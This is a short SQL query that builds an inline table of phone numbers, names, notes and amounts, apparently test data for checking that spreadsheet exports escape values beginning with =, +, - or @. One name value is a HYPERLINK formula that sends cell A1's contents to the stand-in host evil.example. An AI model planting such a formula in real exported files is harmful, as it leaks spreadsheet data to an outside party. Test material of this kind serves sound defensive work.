SELECT * FROM (VALUES
  ('+447700900123'::VARCHAR, '=HYPERLINK("http://evil.example/?"&A1,"Alice")'::VARCHAR, 'x'::VARCHAR, 1::INTEGER),
  ('+14155550123', '-bob', '@home', -5),
  ('212-555-0100', '''=already quoted', '+plus', 3)
) t(phone, name, note, amount)
